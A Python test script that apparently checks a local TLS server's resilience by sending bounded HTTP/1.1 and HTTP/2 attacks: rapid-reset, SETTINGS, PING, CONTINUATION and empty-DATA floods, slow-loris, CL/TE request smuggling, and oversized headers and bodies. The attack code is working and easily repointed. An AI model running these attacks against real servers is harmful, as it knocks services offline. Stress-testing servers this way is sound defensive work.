#!/usr/bin/env python3
"""hostile.py ATTACK PORT   attacks the TLS server on 127.0.0.1:PORT and prints what it answers, one word:
a status code, goaway:CODE, or closed. Every attack is bounded and ends by itself. Frames: RFC 9113."""
import socket, ssl, struct, sys, time

ATTACK, PORT = sys.argv[1], int(sys.argv[2])
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def connect(alpn):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    s = context.wrap_socket(socket.create_connection(("127.0.0.1", PORT), timeout=60))
    assert s.selected_alpn_protocol() == alpn, s.selected_alpn_protocol()
    return s


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    def text(s):
        return (bytes([len(s)]) if len(s) < 127 else b"\x7f" + varint(len(s) - 127)) + s
    return b"\x00" + text(name) + text(value)


def varint(n):
    out = b""
    while n >= 128:
        out += bytes([n % 128 + 128])
        n //= 128
    return out + bytes([n])


REQUEST = literal(b":method", b"GET") + literal(b":scheme", b"https") + literal(b":authority", b"x") + literal(b":path", b"/healthz")


def read_http1(s):
    head = b""
    try:
        while b"\r\n" not in head:
            chunk = s.recv(65536)
            if not chunk:
                return "closed"
            head += chunk
    except (ConnectionError, ssl.SSLError):
        return "closed"
    return head.split()[1].decode()


def read_goaway(s):
    """Until a GOAWAY with an error, or the end."""
    buffered, last = b"", "closed"
    try:
        while True:
            while len(buffered) >= 9:
                length = int.from_bytes(buffered[:3], "big")
                if len(buffered) < 9 + length:
                    break
                kind, payload = buffered[3], buffered[9 : 9 + length]
                buffered = buffered[9 + length :]
                if kind == GOAWAY:
                    last = "goaway:%d" % int.from_bytes(payload[4:8], "big")
                    if last != "goaway:0":
                        return last
            chunk = s.recv(65536)
            if not chunk:
                return last
            buffered += chunk
    except (ConnectionError, ssl.SSLError, TimeoutError):
        return last


def flood(s, make, count):
    """Sends make(i) COUNT times, in batches; a server that hangs up early is fine."""
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    s.settimeout(60)
    try:
        for i in range(0, count, 50):
            s.sendall(b"".join(make(j) for j in range(i, min(count, i + 50))))
    except (ConnectionError, ssl.SSLError, TimeoutError):
        pass
    return read_goaway(s)


def slow_loris():
    """Many connections that send a header byte now and then; meanwhile a normal request must be served."""
    slow = [connect("http/1.1") for _ in range(100)]
    for s in slow:
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
    for _ in range(3):
        for s in slow:
            s.sendall(b"X-A: b\r\n")
        time.sleep(0.1)
    begun = time.time()
    s = connect("http/1.1")
    s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
    code = read_http1(s)
    return code if time.time() - begun < 10 else "slow"  # who waits for the slow ones waits for their limit, 32 s


def http1(request, body_mib=0):
    s = connect("http/1.1")
    try:
        s.sendall(request)
        for _ in range(body_mib):
            s.sendall(b"x" * (1 << 20))
    except (ConnectionError, ssl.SSLError):
        pass
    return read_http1(s)


reset = struct.pack(">I", 8)
ATTACKS = {
    "healthy": lambda: http1(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"),
    "garbage": lambda: http1(b"\x00\x01\x02 nonsense\r\n\r\n"),
    "smuggling": lambda: http1(b"GET /healthz HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
    "no-host": lambda: http1(b"GET /healthz HTTP/1.1\r\n\r\n"),
    "big-header": lambda: http1(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * (10 << 20) + b"\r\n\r\n"),
    "big-body": lambda: http1(b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                              b"Content-Length: 10485760\r\n\r\n", 10),
    "slow-loris": slow_loris,
    "rapid-reset": lambda: flood(connect("h2"), lambda i: frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, REQUEST)
                                 + frame(RST_STREAM, 0, 2 * i + 1, reset), 20000),
    "settings": lambda: flood(connect("h2"), lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)), 100000),
    "ping": lambda: flood(connect("h2"), lambda i: frame(PING, 0, 0, b"12345678"), 100000),
    "continuation": lambda: flood(connect("h2"), lambda i: frame(CONTINUATION if i else HEADERS, 0, 1,
                                  REQUEST if i == 0 else literal(b"x-%d" % i, b"y" * 8000)), 5000),
    "empty-data": lambda: flood(connect("h2"), lambda i: frame(HEADERS, END_HEADERS, 1, REQUEST) if i == 0 else frame(DATA, 0, 1), 100000),
}
print(ATTACKS[ATTACK]())
